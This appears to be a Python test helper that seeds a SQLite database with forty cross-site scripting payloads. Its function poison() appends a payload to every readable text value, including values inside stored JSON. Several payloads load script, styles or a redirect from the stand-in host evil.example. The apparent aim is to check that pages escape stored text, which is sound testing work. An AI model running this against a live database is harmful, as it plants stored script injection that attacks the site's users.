"""Forty texts that would run a script where a page took them for more than text, and how they get there."""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from itertools import count
from pathlib import Path
from typing import Any

PAYLOADS = (
    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "</script><script>alert(1)//",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</option></select><script>alert(1)</script>",
    "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "<ScRiPt >alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", "<img src=`x` onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//", "<<img src=x onerror=alert(1)>>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>", "<body onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)' autofocus>x</a>", "[x](javascript:alert(1))",
    "![x](x\" onerror=\"alert(1))",
    '" autofocus onfocus="alert(1)', "' autofocus onfocus='alert(1)", "` autofocus onfocus=`alert(1)",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>", "<style>@import '//evil.example/x.css'</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)  # fmt: skip


def poison(path: Path, turn: int) -> int:
    """Put a payload behind every text that people read in a SQLite file; `turn` says which stands where.

    Such a text has a space or is a canary of the world; ids and names of settings have none. Returns how many
    places have one now.
    """
    numbers = count(turn)
    with closing(sqlite3.connect(path)) as on, on:
        for table, column in _text_columns(on):
            rows = on.execute(f'SELECT rowid, "{column}" FROM "{table}"').fetchall()
            for row, text in rows:
                if isinstance(text, str):
                    is_json = text.startswith(("{", "["))
                    changed = (
                        json.dumps(_within(json.loads(text), numbers)) if is_json else _within(text, numbers)
                    )
                    # where a rule of the table says no, the text stays as it was
                    on.execute(
                        f'UPDATE OR IGNORE "{table}" SET "{column}" = ? WHERE rowid = ?', (changed, row)
                    )
    return next(numbers) - turn


def _text_columns(on: sqlite3.Connection) -> Iterator[tuple[str, str]]:
    tables = on.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall()
    for (table,) in tables:
        for _, column, kind, *_ in on.execute(f'PRAGMA table_info("{table}")').fetchall():
            if "CHAR" in kind or kind == "TEXT":
                yield table, column


def _within(value: Any, numbers: Iterator[int]) -> Any:
    if isinstance(value, dict):
        return {key: _within(one, numbers) for key, one in value.items()}
    if isinstance(value, list):
        return [_within(one, numbers) for one in value]
    is_read = isinstance(value, str) and (" " in value or "Zq" in value)
    return f"{value} {PAYLOADS[next(numbers) % len(PAYLOADS)]}" if is_read else value
